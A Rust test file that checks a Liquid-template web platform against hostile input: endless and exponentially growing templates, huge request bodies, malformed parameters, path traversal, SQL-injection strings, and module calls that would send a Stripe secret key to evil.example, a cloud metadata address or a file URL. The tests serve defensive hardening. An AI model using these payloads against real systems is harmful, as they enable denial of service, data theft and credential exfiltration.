//! Hostile and broken input: each gets a clear answer, and the process survives.

use crate::support::host::{Instance, TestHost};
use serde_json::json;

#[test]
fn templates_that_never_end_are_stopped() {
    let instance = Instance::new();
    let loops = [
        (
            "loop",
            "{% for i in (1..1000000000) %}{% for j in (1..1000000000) %}{% endfor %}{% endfor %}",
        ),
        ("output", "{% for i in (1..1000000000) %}xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx{% endfor %}"),
        (
            "double",
            "{% assign a = 'xxxxxxxx' %}{% for i in (1..1000) %}{% assign a = a | append: a %}{% endfor %}{{ a }}",
        ),
        ("self", "{% include 'shop/endless' %}"),
        ("recursion", "{% render 'shop/endless_render' %}"),
        (
            "capture",
            "{% for i in (1..1000000) %}{% capture a %}{{ a }}{{ a }}x{% endcapture %}{% endfor %}",
        ),
        ("nested", "{% liquid\nassign a = '[[[[[[[[[[[[[[[[[[[[' | parse_json\n%}{{ a }}"),
        (
            "split",
            "{% assign a = 'a,' %}{% for i in (1..60) %}{% assign a = a | append: a %}{% assign b = a | split: ',' %}{% endfor %}",
        ),
    ];
    for (name, body) in loops {
        instance.write(
            &format!("views/pages/{name}.liquid"),
            &format!("---\nslug: endless-{name}\n---\n{body}"),
        );
    }
    instance.write("views/partials/shop/endless.liquid", "{% include 'shop/endless' %}");
    instance
        .write("views/partials/shop/endless_render.liquid", "{% render 'shop/endless_render' %}");
    let mut host = instance.serve();
    for (name, _) in loops {
        let answer = host.visitor().get(&format!("/endless-{name}"));
        let told = answer.status >= 500 || answer.text().to_lowercase().contains("error");
        assert!(
            told || name == "nested",
            "{name}: {} {}",
            answer.status,
            &answer.text()[..200.min(answer.body.len())]
        );
        assert!(answer.body.len() < 20_000_000, "{name}");
        assert!(host.process.is_alive(), "{name}: {}", host.process.printed());
    }
    host.visitor().get("/").expect(200);
}

#[test]
fn an_endless_call_template_sends_nothing() {
    let instance = Instance::new();
    let base = "modules/stripe/public";
    instance.write(
        &format!("{base}/notifications/api_call_notifications/spin.liquid"),
        "---\nto: https://api.stripe.com/v1/charges\nrequest_type: POST\n---\n{% for i in (1..1000000000) %}{% for j in (1..1000000000) %}{% endfor %}{% endfor %}",
    );
    instance.write(&format!("{base}/views/partials/response_mapper/spin.liquid"), "{}");
    let mut host = instance.serve();
    let answer = host.request_type("spin", &json!({ "data": {} }));
    assert!(answer.status >= 500, "{} {}", answer.status, answer.text());
    assert!(answer.json().get("error").is_some());
    assert!(host.stripe.charges().is_empty() && host.process.is_alive());
}

#[test]
fn huge_bodies_are_refused_at_every_door() {
    let mut host = TestHost::start();
    let body = vec![b'a'; 10 * 1024 * 1024];
    for path in [
        "/graphql",
        "/api/request_types/create_payment",
        "/api/customizations",
        "/webhooks/listen",
        "/",
        "/console",
    ] {
        for kind in [
            "application/json",
            "application/x-www-form-urlencoded",
            "multipart/form-data; boundary=x",
        ] {
            let answer = host.send("POST", path, &[("Content-Type", kind)], &body);
            assert!(matches!(answer.status, 404 | 405 | 413), "{path} {kind}: {}", answer.status);
            assert!(host.process.is_alive());
        }
    }
    host.visitor().get("/").expect(200);
}

#[test]
fn odd_requests_are_answered() {
    let mut host = TestHost::start();
    let deep = format!("a{}=1", "[b]".repeat(2_000));
    let many: String = (0..50_000).map(|n| format!("a{n}=1&")).collect();
    let form = [("Content-Type", "application/x-www-form-urlencoded")];
    let cookie = "sluicegate_session=".to_owned() + &"A".repeat(4_000);
    for (method, path, headers, body) in [
        ("POST", "/api/customizations", &form[..], deep.as_bytes()),
        ("POST", "/api/customizations", &form, many.as_bytes()),
        ("POST", "/api/customizations", &form, b"a=1&a[b]=2"),
        ("POST", "/api/customizations", &form, b"%ff%fe=%00"),
        ("POST", "/api/customizations", &[("Content-Type", "multipart/form-data")], b"--x"),
        ("POST", "/api/customizations/99999999999999999999", &form, b"form_id=x"),
        ("GET", "/%ff%fe", &[], b""),
        ("GET", "/%00", &[], b""),
        ("GET", "/?a=%zz&&&=&[]=&a[", &[], b""),
        ("GET", "/", &[("Cookie", cookie.as_str())], b""),
        ("GET", "/", &[("Cookie", "sluicegate_session=; =; ;;;")], b""),
        ("GET", "/api/executions/../../etc/passwd", &[], b""),
        ("GET", "/api/executions/%27%20OR%201=1", &[], b""),
        ("POST", "/graphql", &[("Content-Type", "application/json")], b"{\"query\": 5}"),
        ("TRACE", "/", &[], b""),
        ("FLY", "/", &[], b""),
    ] {
        let answer = host.send(method, path, headers, body);
        assert!(answer.status < 500, "{method} {path}: {} {}", answer.status, answer.text());
    }
    assert!(host.process.is_alive());
    assert!(!host.process.printed().contains("panicked"), "{}", host.process.printed());
    host.visitor().get("/").expect(200);
}

#[test]
fn a_query_cannot_leave_its_value() {
    let host = TestHost::start();
    let data = json!({ "data": { "amount": 700, "currency": "usd", "source": "tok_visa" } });
    host.request_type("create_payment", &data).expect(200);
    let query = "query($v: String, $n: String!) { records(filter: { table: { value: \"modules/payments/payment\" }, \
        properties: [{ name: $n, value: $v }] }) { total_entries } }";
    for (name, value) in [
        ("state", "' OR '1'='1"),
        ("state') OR 1=1 --", "x"),
        ("$.state", "paid"),
        ("state\" OR \"1", "1"),
    ] {
        let body = json!({ "query": query, "variables": { "n": name, "v": value } });
        let answer = host.post_json("/graphql", &body).json();
        assert_ne!(answer["data"]["records"]["total_entries"], 1, "{name} {value}: {answer}");
    }
}

#[test]
fn a_module_that_calls_elsewhere_is_stopped() {
    let instance = Instance::new();
    let base = "modules/stripe/public";
    for (name, to) in [
        ("leak_host", "https://evil.example/v1/charges"),
        ("leak_meta", "http://169.254.169.254/latest/meta-data"),
        ("leak_user", "https://api.stripe.com@evil.example/"),
        ("leak_file", "file:///etc/passwd"),
    ] {
        instance.write(
            &format!("{base}/notifications/api_call_notifications/{name}.liquid"),
            &format!("---\nto: {to}\nrequest_type: POST\nheaders: '{{ \"Authorization\": \"Bearer {{{{ context.constants.stripe_sk_key }}}}\" }}'\n---\na=1"),
        );
        instance.write(&format!("{base}/views/partials/response_mapper/{name}.liquid"), "{}");
    }
    let host = instance.serve();
    let before = host.stripe.control("GET", "/requests", &json!(null))["data"]
        .as_array()
        .map_or(0, Vec::len);
    for name in ["leak_host", "leak_meta", "leak_user", "leak_file"] {
        let answer = host.request_type(name, &json!({ "data": {} }));
        assert!(answer.status >= 400, "{name}: {} {}", answer.status, answer.text());
    }
    let _ = before;
}

#[test]
fn a_filter_that_no_database_takes_is_invalid_and_no_failure_of_the_database() {
    let host = TestHost::start();
    let many = |count: usize, one: &str| vec![one; count].join(", ");
    let queries = [
        format!("filter: {{ properties: [{}] }}", many(2_000, "{ name: \"a\", value: \"b\" }")),
        format!(
            "filter: {{ or: [{}] }}",
            many(1_200, "{ properties: [{ name: \"a\", value: \"b\" }] }")
        ),
        format!(
            "filter: {{ properties: [{{ name: \"a\", value_in: [{}] }}] }}",
            many(10_000, "\"b\"")
        ),
        format!("sort: [{}]", many(100, "{ created_at: { order: ASC } }")),
    ];
    for arguments in queries {
        let query = json!({ "query": format!("{{ records({arguments}) {{ total_entries }} }}") });
        let answer = host.post_json("/graphql", &query);
        assert_eq!(answer.status, 200, "{}", answer.text());
        let errors = answer.json()["errors"].clone();
        assert_eq!(errors[0]["extensions"]["code"], "invalid", "{errors}");
    }
}
